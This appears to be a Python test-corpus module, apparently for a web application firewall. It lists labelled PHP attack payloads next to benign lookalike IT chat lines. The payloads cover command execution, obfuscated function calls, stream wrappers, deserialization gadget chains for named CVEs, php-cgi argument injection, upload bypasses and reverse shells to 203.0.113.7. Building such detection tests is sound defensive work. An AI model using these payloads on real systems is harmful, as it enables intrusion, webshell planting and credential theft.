# php-function-call: the command and code execution functions, as they reach eval sinks of the old products
FUNCTION_CALL: list[Entry] = [
    # an eval()ed template field in a home-grown PHP 5 intranet app (PHP interpreter, shell)
    "system('id');",
    "exec('whoami',$o);print_r($o);",
    "passthru('cat /etc/passwd');",
    "echo shell_exec('uname -a');",
    "$h=popen('id','r');echo fread($h,4096);",
    "proc_open('id',array(1=>array('pipe','w')),$p);echo stream_get_contents($p[1]);",
    "echo `cat /etc/passwd`;",
    "exec('cmd.exe /c whoami');",
    "echo shell_exec('system DSPSYSVAL QSECURITY');",
    # assert() with a string argument is eval in PHP 5 (PHP 5)
    "assert('system(\"id\")');",
    "assert($_POST['x']);",
    "eval('phpinfo();');",
    # create_function body injection: create_function('$a', 'return '.$input.';') (PHP 4/5)
    "1;}system('id');/*",
    "call_user_func(create_function('','system(\"id\");'));",
    # preg_replace with /e (PHP < 5.5): phpBB 2.0.15 viewtopic highlight, double-quoted replacement
    "%27.passthru($HTTP_GET_VARS[cmd]).%27",
    "'.system('id').'",
    "preg_replace('/.*/e','system(\"id\")','');",
    "/.*/e",
    "{${phpinfo()}}",
    "${@eval($_POST[1])}",
    # ThinkPHP 5.0.x invokefunction route (PHP CMS/ERP of the era)
    ("s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", *QKV),
    # vBulletin 5.x widget_php render (CVE-2019-16759)
    ("routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;", *KV),
    # Drupal 8 Drupalgeddon 2 on the register form (#post_render callback)
    ("form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
     *KV),
    # Drupal 7 Drupalgeddon 2: the callback in name[] of the password form
    ("name[#post_render][]=passthru&name[#type]=markup&name[#markup]=uname -a", *KV),
    # PEAR XML_RPC / phpXMLRPC eval() of the method parameters (CVE-2005-1921, PHP XML-RPC services)
    ("<?xml version=\"1.0\"?><methodCall><methodName>test.method</methodName><params><param><value><name>'));"
     "system('id');exit;/*</name></value></param></params></methodCall>", *XMLDOC),
    ("<methodCall><methodName>blogger.getUsersBlogs</methodName><params><param><value><string>',''));"
     "echo shell_exec('id');exit;/*</string></value></param></params></methodCall>", *XMLDOC),
]

# php-variable-functions: the function name assembled at run time so no function name is written
VARIABLE_FUNCTIONS: list[Entry] = [
    # request values as function and argument, a one-line backdoor left in an old CMS plugin (PHP)
    "$_GET['f']($_GET['c']);",
    "$_POST[0]($_POST[1]);",
    "@$_GET[1](@$_GET[2]);",
    "$_REQUEST[a]($_REQUEST[b]);",
    "$o=$_COOKIE['o'];$p=$_COOKIE['p'];$o($p);",
    # names built from pieces, reversed, rotated, decoded (PHP)
    "$a='sys'.'tem';$a('id');",
    "$cmd='i'.'d';$fn='pass'.'thru';$fn($cmd);",
    "$f=strrev('metsys');$f('whoami');",
    "$f=str_rot13('flfgrz');$f('id');",
    "$x=base64_decode('c3lzdGVt');$x('id');",
    "$f=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109);$f('id');",
    "$f=implode('',array('s','y','s','t','e','m'));$f('id');",
    "$e=\"\\163\\171\\163\\164\\145\\155\";$e('id');",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\");",
    "('sys'.'tem')('id');",
    "$f='assert';$f($_POST['x']);",
    "$k='cre'.'ate_function';$g=$k('','system($_GET[c]);');$g();",
    # variable variables and string-keyed superglobals (PHP)
    "$a='b';$b='system';$$a('id');",
    "${'_GET'}['a'](${'_GET'}['b']);",
    "${\"_G\".\"ET\"}[f](${\"_G\".\"ET\"}[c]);",
    # non-alphanumeric shell: XOR builds "system" and "_GET" (PHP 5/7, global scope)
    "$_=('\x13'^'`').('\x19'^'`').('\x13'^'`').('\x14'^'`').('\x05'^'`').('\x0d'^'`');"
    "$__='_'.('\x1a'^']').('\x18'^']').('\x09'^']');$___=$$__;$_($___['c']);",
    # callbacks: the dangerous function passed by name (PHP)
    "call_user_func($_GET['f'],$_GET['a']);",
    "call_user_func('system','id');",
    "call_user_func_array('passthru',array('id'));",
    "array_map($_REQUEST['f'],array($_REQUEST['c']));",
    "array_map('system',array('uname -a'));",
    "array_filter(array('id'),'system');",
    "register_shutdown_function('passthru','id');",
    "ob_start('system');echo 'id';ob_end_flush();",
    "$c=new ReflectionFunction('system');$c->invoke('id');",
]

# php-wrappers: stream wrappers handed to include()/file_get_contents() parameters of the old CMSs
WRAPPERS: list[Entry] = [
    # read the config source through a filter (Joomla 1.5 configuration.php, phpMyAdmin, WordPress)
    "php://filter/convert.base64-encode/resource=configuration.php",
    "php://filter/read=convert.base64-encode/resource=../wp-config.php",
    "php://filter/convert.base64-encode/resource=config.inc.php",
    "php://filter/read=string.rot13/resource=index.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/LocalSettings.php",
    "php://filter/resource=http://203.0.113.7/shell.txt",
    "php://filter/convert.base64-decode/resource=data://text/plain,PD9waHAgcGhwaW5mbygpOz8+",
    # the write filter that strips an "<?php exit; ?>" prefix from a cache file (file_put_contents sinks)
    "php://filter/write=convert.base64-decode/resource=shell.php",
    "php://filter/write=string.rot13/resource=cache/x.php",
    # the request body as the included file (include($_GET['page']) with allow_url_include)
    "php://input",
    "PHP://input",
    # data: URLs as code (allow_url_include)
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==",
    "data:text/plain,<?php phpinfo(); ?>",
    "data://text/plain,<?php system('id');?>",
    # expect:// (PECL expect on old RHEL/CentOS PHP builds)
    "expect://id",
    "expect://nc -e /bin/sh 203.0.113.7 4444",
    # archives: a phar or zip smuggled in as an avatar or theme upload (vBulletin, Typo3, Joomla extensions)
    "phar://./uploads/avatar.jpg/shell.php",
    "phar:///var/www/html/images/x.gif",
    "phar://../../images/upload/1.jpg/x",
    "zip://uploads/avatars/a.zip#shell.php",
    "zip:///var/www/html/tmp/theme.zip#shell.php",
    "rar://uploads/files/x.rar#shell.php",
    # directory listing and compressed reads (PHP 5.3+ glob, zlib)
    "glob:///var/www/html/*.php",
    "glob://C:/xampp/htdocs/*",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../configuration.php",
    # PECL ssh2 wrapper and a Windows file URL (XAMPP)
    "ssh2.exec://root:toor@127.0.0.1:22/id",
    "file://C:/xampp/php/php.ini",
]

# php-object-injection: serialized objects and arrays sent to unserialize() in cookies, parameters and sessions
OBJECT_INJECTION: list[Entry] = [
    # home-grown CMS "remember me" cookie: privilege flip and loose comparison (PHP 4/5)
    "O:4:\"User\":2:{s:8:\"username\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
    "a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";b:1;}",
    "a:1:{s:4:\"role\";s:13:\"administrator\";}",
    # the same cookie base64-encoded, as CodeIgniter 2 / osCommerce stored it
    "Tzo0OiJVc2VyIjoyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjc6ImlzQWRtaW4iO2I6MTt9",
    "YToyOntzOjg6InVzZXJuYW1lIjtzOjU6ImFkbWluIjtzOjg6InBhc3N3b3JkIjtiOjE7fQ==",
    # regex filters on O:\d beaten by the plus sign, escaped S: strings (PHP 5)
    "O:+8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";}",
    "O:8:\"stdClass\":1:{S:3:\"\\63md\";s:2:\"id\";}",
    # Joomla 1.5-3.4.5 session object injection in User-Agent (CVE-2015-8562)
    ("}__test|O:21:\"JDatabaseDriverMysqli\":3:{s:2:\"fc\";O:17:\"JSimplepieFactory\":0:{}s:21:\"\\0\\0\\0"
     "disconnectHandlers\";a:1:{i:0;a:2:{i:0;O:9:\"SimplePie\":5:{s:8:\"sanitize\";O:20:\"JDatabaseDriverMysql\""
     ":0:{}s:8:\"feed_url\";s:37:\"phpinfo();JFactory::getConfig();exit;\";s:19:\"cache_name_function\";s:6:"
     "\"assert\";s:5:\"cache\";b:1;s:11:\"cache_class\";O:20:\"JDatabaseDriverMysql\":0:{}}i:1;s:4:\"init\";}}"
     "s:13:\"\\0\\0\\0connection\";b:1;}", *UA_),
    # vBulletin 5.1 ajax/api/hook/decodeArguments (CVE-2015-7808)
    "O:12:\"vB_dB_Result\":2:{s:5:\"\x00*\x00db\";O:11:\"vB_Database\":1:{s:9:\"functions\";a:1:{s:11:"
    "\"free_result\";s:6:\"assert\";}}s:12:\"\x00*\x00recordset\";s:9:\"phpinfo()\";}",
    # SugarCRM 6.5 REST login with input_type=Serialize: SugarCacheFile writes a PHP file
    ("method=login&input_type=Serialize&rest_data=O:+14:\"SugarCacheFile\":3:{S:17:\"\\00*\\00_cacheFileName\";"
     "s:16:\"../custom/sh.php\";S:16:\"\\00*\\00_cacheChanged\";b:1;S:14:\"\\00*\\00_localStore\";a:1:{i:0;"
     "s:29:\"<?php eval($_POST['cmd']); ?>\";}}", *KV),
    # phpMyAdmin 2.x setup.php configuration parameter: PMA_Config reads any file
    ("action=lay_navigation&eoltype=unix&configuration=a:1:{i:0;O:10:\"PMA_Config\":1:{s:6:\"source\";"
     "s:11:\"/etc/passwd\";}}", *KV),
    # Drupal 8 REST (CVE-2019-6340): Guzzle FnStream/HandlerStack gadget in a link field's options
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\x00GuzzleHttp\\Psr7\\FnStream\x00methods\";a:1:{s:5:"
    "\"close\";a:2:{i:0;O:23:\"GuzzleHttp\\HandlerStack\":3:{s:32:\"\x00GuzzleHttp\\HandlerStack\x00handler\";"
    "s:2:\"id\";s:30:\"\x00GuzzleHttp\\HandlerStack\x00stack\";a:1:{i:0;a:1:{i:0;s:6:\"system\";}}s:31:"
    "\"\x00GuzzleHttp\\HandlerStack\x00cached\";b:0;}i:1;s:7:\"resolve\";}}s:9:\"_fn_close\";a:2:{i:0;r:4;"
    "i:1;s:7:\"resolve\";}}",
    # Drupal 7 Services module accepting application/vnd.php.serialized (REST endpoint, 2017)
    ("O:8:\"stdClass\":2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";a:0:{}}", *PHPBODY),
    ("a:2:{s:8:\"username\";s:5:\"admin\";s:8:\"password\";O:8:\"SplStack\":0:{}}", *PHPBODY),
    # Laravel 5.x PendingBroadcast -> Faker Generator (APP_KEY leaked on an old intranet Laravel)
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":2:{s:9:\"\x00*\x00events\";O:15:\"Faker\\Generator\":1:"
    "{s:13:\"\x00*\x00formatters\";a:1:{s:8:\"dispatch\";s:6:\"system\";}}s:8:\"\x00*\x00event\";s:2:\"id\";}",
    # Monolog BufferHandler/SyslogUdpHandler chain (PHPGGC Monolog/RCE1 shape)
    "O:32:\"Monolog\\Handler\\SyslogUdpHandler\":1:{s:9:\"\x00*\x00socket\";O:29:\"Monolog\\Handler\\BufferHandler\""
    ":3:{s:10:\"\x00*\x00handler\";r:2;s:13:\"\x00*\x00bufferSize\";i:-1;s:9:\"\x00*\x00buffer\";a:1:{i:0;a:2:{"
    "i:0;s:2:\"id\";s:5:\"level\";N;}}}}",
    # Guzzle FileCookieJar writes its cookies (a PHP payload) to a web path on destruct
    "O:31:\"GuzzleHttp\\Cookie\\FileCookieJar\":2:{s:41:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename\";"
    "s:23:\"/var/www/html/shell.php\";s:52:\"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00storeSessionCookies\";b:1;}",
    # Zend Framework 1 Zend_Log writer on destruct (Magento 1.x gadget shape)
    "O:8:\"Zend_Log\":1:{s:11:\"\x00*\x00_writers\";a:1:{i:0;O:20:\"Zend_Log_Writer_Mail\":1:{s:10:"
    "\"\x00*\x00_layout\";O:11:\"Zend_Layout\":1:{s:13:\"\x00*\x00_inflector\";s:6:\"system\";}}}}",
    # SoapClient SSRF: a deserialized SoapClient POSTs to the internal Tomcat manager on any method call
    "O:10:\"SoapClient\":3:{s:3:\"uri\";s:4:\"urn:\";s:8:\"location\";s:43:\"http://127.0.0.1:8080/manager/html/"
    "undeploy\";s:11:\"_user_agent\";s:28:\"x\r\nAuthorization: Basic YTpi\";}",
    # C: custom serialization (ArrayObject, SplObjectStorage) reaching __wakeup gadgets (PHP 5.3+)
    "C:11:\"ArrayObject\":38:{x:i:0;a:1:{s:1:\"a\";s:2:\"id\";};m:a:0:{}}",
    "C:16:\"SplObjectStorage\":56:{x:i:1;O:8:\"stdClass\":1:{s:3:\"cmd\";s:2:\"id\";},N;;m:a:0:{}}",
    "a:2:{i:0;O:8:\"Template\":1:{s:5:\"cache\";s:23:\"/var/www/html/shell.php\";}i:1;s:4:\"test\";}",
    # session serializer mismatch (php_serialize writer, php reader): the pipe starts an object
    "|O:8:\"stdClass\":1:{s:5:\"admin\";b:1;}",
    "x|O:11:\"CacheWriter\":1:{s:4:\"file\";s:9:\"shell.php\";}",
]

# php-config-directives: ini settings pushed through php-cgi argv, .user.ini/.htaccess content, ini_set sinks
CONFIG_DIRECTIVES: list[Entry] = [
    # php-cgi query-string argument injection (CVE-2012-1823), the body then runs
    ("-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", *QS),
    ("-d+allow_url_include%3d1+-d+auto_prepend_file%3dhttp://203.0.113.7/s.txt", *QS),
    ("-d+safe_mode%3dOff+-d+disable_functions%3dNULL+-d+allow_url_include%3dOn+-d+auto_prepend_file%3dphp://input",
     *QS),
    ("-d+cgi.force_redirect%3d0+-d+cgi.redirect_status_env%3d0+-d+auto_prepend_file%3dphp://input", *QS),
    ("-d+auto_prepend_file%3d/etc/passwd", *QS),
    ("-d+suhosin.simulation%3d1+-d+open_basedir%3dnone+-d+auto_prepend_file%3dphp://input", *QS),
    ("-s", *QS),
    # php-cgi on Windows/XAMPP, soft hyphen best-fit to "-" (CVE-2024-4577)
    ("%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", *QS),
    ("%ADd+cgi.force_redirect%3d0+%ADd+auto_prepend_file%3dphp://input", *QS),
    # the same directives inside a parameter a vulnerable config writer or ini_set() sink takes (PHP)
    "allow_url_include=On",
    "auto_prepend_file=php://input",
    "auto_append_file=http://203.0.113.7/shell.txt",
    "auto_prepend_file=/proc/self/environ",
    "allow_url_fopen=On\nallow_url_include=On\nauto_prepend_file=php://input",
    # .htaccess and .user.ini content uploaded to a shared host (Apache mod_php, PHP-FPM)
    "php_value auto_prepend_file /tmp/sess_abc123",
    "php_flag engine on\nAddType application/x-httpd-php .jpg",
    "php_flag register_globals on",
    "php_value auto_append_file /var/www/html/uploads/avatar.gif",
    "AddHandler php5-script .gif",
    # ini_set() in an eval sink (PHP 5)
    "ini_set('unserialize_callback_func','system');unserialize('O:2:\"id\":0:{}');",
    "ini_set('error_log','/var/www/html/x.php');error_log('<?php system($_GET[c]);?>');",
    "ini_set('include_path','/tmp');include('sess_abc123');",
    # php.ini settings used with php-cgi -d or a writable php.ini on IIS (Windows PHP)
    "disable_functions=\nsafe_mode=Off\nopen_basedir=",
    "extension=/tmp/evil.so",
    "sendmail_path=\"/bin/sh -c 'id > /tmp/x'\"",
    "mail.log=/var/www/html/x.php",
]

# superglobals: request and server arrays in code, PHP 4 long arrays, register_globals overwrites
SUPERGLOBALS: list[Entry] = [
    # code in an eval sink reaching for the request (PHP)
    "eval($_SERVER['HTTP_X_CMD']);",
    "system($_SERVER['HTTP_ACCEPT_LANGUAGE']);",
    "assert($_COOKIE['c']);",
    "include($_FILES['f']['tmp_name']);",
    "copy($_FILES['x']['tmp_name'],'/var/www/html/x.php');",
    "file_put_contents($_POST['f'],$_POST['d']);",
    "$GLOBALS['_GET']['f']($GLOBALS['_GET']['c']);",
    "print_r($GLOBALS);",
    "var_dump($_SERVER,$_ENV);",
    "$_SESSION['is_admin']=true;",
    "include($_SERVER['DOCUMENT_ROOT'].'/../tmp/sess_'.$_COOKIE['PHPSESSID']);",
    # PHP 4 long arrays and raw post data (PHP 4 / 5 with register_long_arrays)
    "passthru($HTTP_GET_VARS[cmd]);",
    "eval($HTTP_RAW_POST_DATA);",
    "system($HTTP_SERVER_VARS['HTTP_X_CMD']);",
    "eval($HTTP_COOKIE_VARS['c']);",
    "copy($HTTP_POST_FILES['f']['tmp_name'],'s.php');",
    # register_globals emulation in the old CMSs (PHP 4.1-5.3)
    "extract($_REQUEST);",
    "import_request_variables('gpc');",
    "parse_str($_SERVER['QUERY_STRING']);",
    # register_globals=On overwrites of superglobal and globals arrays (PHP 4, Mambo/PHP-Nuke era)
    ("_SESSION[logged_in]=1&_SESSION[user_level]=admin", *QKV),
    ("GLOBALS[_SESSION][admin]=1", *QKV),
    ("_FILES[userfile][tmp_name]=/etc/passwd&_FILES[userfile][name]=a.txt", *KV),
    ("_SERVER[DOCUMENT_ROOT]=http://203.0.113.7/&_SERVER[PHP_SELF]=x", *QKV),
    ("GLOBALS[config][absolute_path]=http://203.0.113.7/x.txt?", *QKV),
    ("HTTP_POST_VARS[isadmin]=1", *KV),
    ("_COOKIE[auth]=1&_REQUEST[option]=com_admin", *KV),
]

# php-file-upload: names an upload form accepts and the web server then hands to PHP
FILE_UPLOAD: list[Entry] = [
    # plain and legacy PHP extensions (Apache AddHandler for php3/php4/php5/phtml on old hosts)
    ("shell.php", *UP),
    ("shell.php3", *UP),
    ("shell.php4", *UP),
    ("shell.php5", *UP),
    ("shell.php7", *UP),
    ("shell.phtml", *UP),
    ("shell.pht", *UP),
    ("shell.phar", *UP),
    ("shell.inc", *UP),
    # Apache mod_mime multiple extensions: the last known one wins, or any handler match counts
    ("avatar.php.jpg", *UP),
    ("avatar.gif.php", *UP),
    ("shell.php.xyz", *UP),
    ("image.png.phtml", *UP),
    # Windows and IIS: case, trailing dot and space, NTFS stream, IIS 6 semicolon
    ("shell.PhP", *UP),
    ("shell.php.", *UP),
    ("shell.php ", *UP),
    ("shell.php::$DATA", *UP),
    ("shell.php;.jpg", *UP),
    # NUL byte truncation in move_uploaded_file before PHP 5.3.4
    ("shell.php\x00.jpg", *UP),
    ("shell.php%00.gif", *UP),
    # path traversal in the name into the web root (Linux, IIS)
    ("../../../var/www/html/shell.php", *UP),
    ("..\\..\\inetpub\\wwwroot\\shell.php", *UP),
    # configuration files that make the next upload run as PHP
    (".htaccess", *UP),
    (".user.ini", *UP),
    # RFC 5987 name that the extension check does not parse
    ("filename*=UTF-8''shell.php", *UP),
    ("shell.pHtMl", *UP),
]

# php-high-risk-function-names: dangerous functions beyond the exec family, in eval sinks of the old products
HIGH_RISK: list[Entry] = [
    # information and source disclosure (PHP)
    "phpinfo();",
    "show_source('/etc/passwd');",
    "highlight_file('../config.php');",
    "readfile('/var/www/html/wp-config.php');",
    "echo file_get_contents('C:/inetpub/wwwroot/web.config');",
    "print_r(scandir('/'));",
    "print_r(get_defined_vars());",
    "echo getenv('DB_PASSWORD');",
    "print_r(posix_getpwnam('root'));",
    # network and process control (PHP CLI/CGI builds with pcntl, sockets)
    "$s=fsockopen('203.0.113.7',4444);exec('/bin/sh -i <&3 >&3 2>&3');",
    "$s=pfsockopen('203.0.113.7',443);while($c=fgets($s))fwrite($s,shell_exec($c));",
    "pcntl_exec('/bin/sh',array('-c','id'));",
    "dl('evil.so');",
    # disable_functions bypasses: LD_PRELOAD with mail(), imap_open ProxyCommand (CVE-2018-19518)
    "putenv('LD_PRELOAD=/tmp/x.so');mail('a@example.org','','','');",
    "mail('a@example.org','x','x','','-OQueueDirectory=/tmp -X/var/www/html/x.php');",
    "imap_open('{203.0.113.7 -oProxyCommand=echo\tZWNobyAxID4gL3RtcC94\t|base64\t-d|sh}','','');",
    "mb_send_mail('a@example.org','x','<?php system($_GET[c]);?>','','-X/var/www/html/m.php');",
    # file writes and permission changes (PHP)
    "error_log('<?php system($_GET[c]);?>',3,'/var/www/html/e.php');",
    "copy('http://203.0.113.7/s.txt','s.php');",
    "symlink('/etc/passwd','/var/www/html/p.txt');",
    "chmod('/var/www/html/shell.php',0777);",
    "unlink('.htaccess');",
    "move_uploaded_file($_FILES['f']['tmp_name'],'/var/www/html/'.$_FILES['f']['name']);",
    # IBM i, Oracle and SQL Server reached through PHP's own database functions
    "i5_command('CRTUSRPRF USRPRF(HACK) PASSWORD(HACK1) USRCLS(*SECOFR)');",
    "db2_exec($c,\"CALL QSYS2.QCMDEXC('CHGUSRPRF USRPRF(QSECOFR) STATUS(*ENABLED)')\");",
    "mssql_query(\"EXEC master..xp_cmdshell 'net user hack P@ss1 /add'\");",
    "$s=stream_socket_client('tcp://203.0.113.7:4444');while($c=fgets($s))fwrite($s,`$c`);",
    "virtual('/cgi-bin/test-cgi?*');",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("xss", "libinjection-xss", LIBINJECTION),
    ("xss", "script-tag", SCRIPT_TAG),
    ("xss", "event-handler", EVENT_HANDLER),
    ("xss", "attribute-vector", ATTRIBUTE),
    ("xss", "javascript-uri", JAVASCRIPT_URI),
    ("xss", "html-injection", HTML_INJECTION),
    ("xss", "svg-mathml", SVG_MATHML),
    ("xss", "css-expression", CSS_EXPRESSION),
    ("xss", "template-literal-dom-sink", DOM_SINK),
    ("xss", "ie-filter-style", IE_VECTORS),
    ("xss", "encoded-entity", ENCODED),
    ("xss", "angular-vue-template", CLIENT_TEMPLATE),
    ("php", "php-open-tag", OPEN_TAG),
    ("php", "php-function-call", FUNCTION_CALL),
    ("php", "php-variable-functions", VARIABLE_FUNCTIONS),
    ("php", "php-wrappers", WRAPPERS),
    ("php", "php-object-injection", OBJECT_INJECTION),
    ("php", "php-config-directives", CONFIG_DIRECTIVES),
    ("php", "superglobals", SUPERGLOBALS),
    ("php", "php-file-upload", FILE_UPLOAD),
    ("php", "php-high-risk-function-names", HIGH_RISK),
]
# exploit forms and register_globals overwrites written as `name=value`, sent unquoted
RAW_KV_SUBS = {"php-function-call", "php-object-injection", "superglobals"}

XSS_NAMES = ["q", "ctl00$MainContent$txtSearch", "ReturnUrl", "Query", "BaseTarget", "RedirectTo",
             "sap-language", "errorMsg", "callback", "msg", "NavigationTarget"]
PHP_NAMES = ["page", "option", "cmd", "highlight", "include", "file", "template", "lang", "code", "action"]
LEGACY_PATHS = ["/default.aspx", "/search.asp", "/index.cfm", "/cgi-bin/search.pl", "/pls/portal/wwv_main.main",
                "/names.nsf", "/OA_HTML/OA.jsp", "/sap/bc/gui/sap/its/webgui", "/index.php",
                "/struts2-showcase/index.action", "/cgi-bin/db2www/report.mac/report", "/xmlrpc.php", "/"]


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    raw_places = ("query", "form", "param-name", "rs-query", "rs-param-name", "rs-raw-body")
    kv_safe = "=&[]._-:/'*$!(),;{}~@^\\|"
    rs_paths = LEGACY_PATHS
    upload = "GIF89a"
    file_type = "image/gif"
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&"
    raw_body_pair = True
    xml_controls = "\n\t"

    def name(self, category: str, sub: str, k: int) -> str:
        names = XSS_NAMES if category == "xss" else PHP_NAMES
        return names[k % len(names)]

    def is_latin(self, sub: str, payload: str) -> bool:
        """The US-ASCII 7-bit vector is bytes, not characters."""
        return any("\x80" <= ch <= "\xff" for ch in payload) and all(ch <= "\xff" for ch in payload)

    def xml_body(self, value: str, root: str, name: str) -> str:
        if value.startswith(("<?xml", "<methodCall")) and "methodCall" in value:
            return value   # an XML-RPC request is the whole document
        return super().xml_body(value, root, name)

    # php-cgi argument injection: the query string exactly as the exploit writes it (no name, no `=` unencoded)
    def _p_query_string(self, p: Put) -> Record:
        return _get("/api/users?" + p.v)

    def _p_rs_query_string(self, p: Put) -> Record:
        return request("GET", "/index.php?" + p.v)

    # Drupal 7 Services: the body is a PHP-serialized value
    def _p_php_body(self, p: Put) -> Record:
        return request("POST", "/api/users", p.v, "application/vnd.php.serialized")

    def _p_rs_php_body(self, p: Put) -> Record:
        return request("POST", p.path, p.v, "application/vnd.php.serialized")


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (enterprise IT chat about migrations off these platforms, bios of
# mainframe and ERP engineers, searches for colleagues, vendor documentation links, quoted error codes, exports)
CHAT = [
    # migrations off the old platforms
    "CHG0041872 approved: decommission of cf-prod-02 (ColdFusion 9) moves to Saturday 02:00 CET",
    "the last classic ASP app (timesheet.asp) is now a .NET 8 service, IIS 6 box can be powered off",
    "INC0093311 Domino 9.0.1 FP10 server DOM-HUB-01 crashed again, NSD log attached to the ticket",
    "we still have 14 Notes databases on names.nsf replicas to migrate before the licence ends in March",
    "WebLogic 10.3.6 to 14c upgrade plan is in Confluence, the deployment descriptors need a rewrite",
    "JBoss EAP 5 is out of support since 2016, the billing portal moves to WildFly next sprint",
    "Tomcat 6 on lnx-app-07 still hosts the HR forms, Arun is porting them to Spring Boot",
    "Struts 1 to Spring MVC: 212 Action classes left, about 40 per sprint",
    "the Struts 2 upgrade to 6.3 is done, all the OGNL-heavy JSPs were replaced",
    "PHP 5.3 on the old intranet wiki is finally gone, MediaWiki 1.41 runs on PHP 8.2 now",
    "Joomla 1.5 marketing site archived as static HTML, the database export is in the project share",
    "phpMyAdmin was removed from all prod hosts, use DBeaver through the bastion",
    "vBulletin forum is read-only since Friday, the export to Discourse starts Monday",
    "Drupal 7 end of life: the partner portal migration to Drupal 10 is tracked in PRJ-2211",
    "SugarCRM 6.5 CE data moved to Salesforce, the old box stays up read-only until audit sign-off",
    "Perl CGI scripts under /cgi-bin on web-legacy-03 are inventoried, 37 still get traffic",
    "Oracle Portal 10g pages redirect to the new intranet since last night, please report broken links",
    "mod_plsql is gone with the 12c upgrade, the APEX replacements for the PL/SQL web procedures are live",
    "the Net.Data macros on the AS/400 HTTP server are being rewritten as RPG + JSON services",
    "Informix 11.70 to 14.10 upgrade window is Sunday, dbexport of stores_prod is running now",
    "Sybase ASE 15.7 retirement: the last two databases move to SQL Server 2022 this quarter",
    "DB2 for z/OS v12 function level 510 activated on DSNP, no SQLCODE -4700 since",
    "SAP ECC 6.0 EHP8 to S/4HANA 2023 conversion, sandbox run 2 finished, SUM log is in the folder",
    "Oracle E-Business Suite 12.1.3 to 12.2.12 online patching cutover moved to the 14th",
    "WebSphere Portal 8.5 to Liferay: the theme uses Dojo, we'll rebuild it rather than port",
    "SharePoint 2007 farm decommission: 312 sites migrated, 18 owners still haven't answered",
    "the HATS screens for the green-screen order entry go away when the new web UI is live",
    "CICS web services for the claims system are getting a z/OS Connect front end",
    "the SOAP endpoint for the rates service stays, we only add a REST facade in front",
    "XML-RPC on the old WordPress blog is disabled at the edge, nothing legitimate used it",
    # day to day on the legacy estate
    "SM37 shows job ZFI_GL_EXTRACT cancelled twice tonight, ST22 has a TIME_OUT dump in the select",
    "can someone with SU01 access unlock user JDOE in PRD client 100? she tried her old password",
    "transport DEVK912345 is stuck in STMS import queue for QAS, return code 8",
    "SE16N on table BSEG times out, use the CDS view instead like Marta said",
    "SM59 RFC destination to the BW system fails with 'partner not reached', basis is looking",
    "copybook CUSTREC.cpy changed length, PAYRL01D abended with S0C7 in step STEP030",
    "JCL for the nightly ACCTMSTR unload is in PROD.JCLLIB(ACCTUNL), please don't edit it in place",
    "SQLCODE -911 on the batch again, deadlock with the online CICS transaction around 01:15",
    "ORA-00942 table or view does not exist in the GL interface, the synonym was dropped in the refresh",
    "ORA-06512 at APPS.XX_AP_INVOICE_PKG line 412, invoice import fails for vendor 10233",
    "FRM-40735 WHEN-BUTTON-PRESSED trigger raised unhandled exception ORA-01403 in the PO form",
    "CPF9801 object not found in library QGPL when the job runs under the new user profile",
    "HTTP Error 500.19 on the ASP.NET app after the web.config change, reverting",
    "ColdFusion admin says 'The request has exceeded the allowable time limit Tag: cfquery'",
    "Domino console: 'HTTP Server: Error opening database names.nsf', the replica was locked",
    "java.lang.OutOfMemoryError: PermGen space on the JBoss node again, bumped MaxPermSize to 512m",
    "WebLogic BEA-000386 server subsystem failed on managed server ms2, node manager restarted it",
    "Tomcat manager app is bound to localhost only now, use the deploy pipeline instead",
    "the PHP error log shows 'Deprecated: Function ereg() is deprecated', that's the old CMS theme",
    "Warning: include(header.php): failed to open stream in the old intranet, the path changed",
    "PHP Fatal error: Allowed memory size of 134217728 bytes exhausted in the report export",
    "the ASP.NET __VIEWSTATE on the claims page is 900 KB, no wonder it is slow on the VPN",
    "the old portal theme has an onload handler that calls a script from a CDN we no longer pay for",
    "ie mode in Edge is still required for the SAP GUI for HTML on the warehouse PCs",
    "the CSS expression() hacks in the Domino templates break in Edge, they were for IE6 anyway",
    "AngularJS 1.5 in the HR self-service app is past end of life, ticket PRJ-1988 to replace it",
    "the eval in the old PHP report builder is being removed, reports are now defined in YAML",
    "we disabled register_globals years ago but the old code still reads $HTTP_GET_VARS, hence the warnings",
    "unserialize() calls in the legacy session handler are replaced with json_decode in 3.4",
    "the upload form on the old CMS only accepted .jpg and .png, the new one uses the media service",
    "auto_prepend_file in php.ini on the legacy host loads the New Relic agent, keep it when you copy the config",
    "short_open_tag is off on the new PHP build, the old templates using <? had to be converted",
    "system() and exec() are in disable_functions on the shared PHP hosts, use the job runner instead",
    # bios
    "Mainframe engineer, 22 years on z/OS. COBOL, JCL, CICS, DB2. Ask me about copybooks.",
    "SAP Basis consultant. S/4HANA conversions, STMS, SM59, kernel upgrades. Based in Walldorf.",
    "Oracle EBS DBA and Apps DBA. adop, AutoConfig, concurrent managers. On call every fourth week.",
    "IBM i (AS/400) developer. RPG IV, CL, SQL on Db2 for i, some PHP on Zend Server.",
